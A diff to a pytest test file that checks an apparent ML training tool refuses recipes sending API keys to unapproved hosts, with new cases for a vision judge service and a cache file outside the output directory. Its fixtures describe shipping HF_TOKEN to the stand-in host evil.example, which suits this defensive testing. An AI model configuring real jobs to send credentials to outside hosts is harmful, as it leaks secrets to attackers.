@@ -19,6 +19,7 @@ pytestmark = pytest.mark.smoke
 
 STEALING = "rewards=[{name: remote, args: {url: 'https://evil.example/score', api_key_env: HF_TOKEN}}]"
 JUDGE = "rewards=[{name: judge, args: {model: m, base_url: 'http://10.0.0.5:8000/v1'}}]"
+SEEING = JUDGE.replace("judge", "vqa_score").replace("10.0.0.5", "10.0.0.6")
 BY_PATH = "rewards=[{name: 'unigrpo.rewards._remote:RemoteReward', args: {url: 'https://evil.example/', api_key_env: HF_TOKEN}}]"
 
 
@@ -29,7 +30,8 @@ def keys(monkeypatch):
 
 
 @pytest.mark.parametrize(
-    ("reward", "host"), [(STEALING, "evil.example"), (JUDGE, "10.0.0.5"), (BY_PATH, "evil.example")]
+    ("reward", "host"),
+    [(STEALING, "evil.example"), (JUDGE, "10.0.0.5"), (SEEING, "10.0.0.6"), (BY_PATH, "evil.example")],
 )
 def test_a_recipe_cannot_send_a_key_where_the_command_line_does_not_let_it(reward, host, tmp_path):
     with pytest.raises(RecipeError, match=rf"would be sent to {host}: .*allow_hosts=\[{host}\]") as caught:
@@ -46,6 +48,16 @@ def test_a_measure_is_no_way_around_it(tmp_path):
     assert "asks a service: https://evil.example/ (remote), key from HF_TOKEN" in code_of(given)
     with pytest.raises(RecipeError, match=r"would be sent to evil\.example"):
         build_accuracy(given)
+
+
+def test_a_service_is_told_and_no_source_and_so_is_a_file_that_it_fills(tmp_path):
+    given = recipe(tmp_path, MINIMAL, SEEING, "rewards.0.args.cache_file=/tmp/answers.jsonl")
+    told = code_of(given)
+    assert "asks a service: http://10.0.0.6:8000/v1 (vqa_score), key from OPENAI_API_KEY" in told
+    assert "leads out of output_dir: cache_file='/tmp/answers.jsonl' (vqa_score)" in told
+    assert not [line for line in sources_of(given) if "vqa_score" in line]
+    served = recipe(tmp_path, MINIMAL, "rewards=[{name: reward_model_server, args: {model: m}}]")
+    assert "asks a service: http://127.0.0.1:8000 (reward_model_server), no key" in code_of(served)
 
 
 def test_the_command_ends_before_anything_is_sent(tmp_path, capsys):
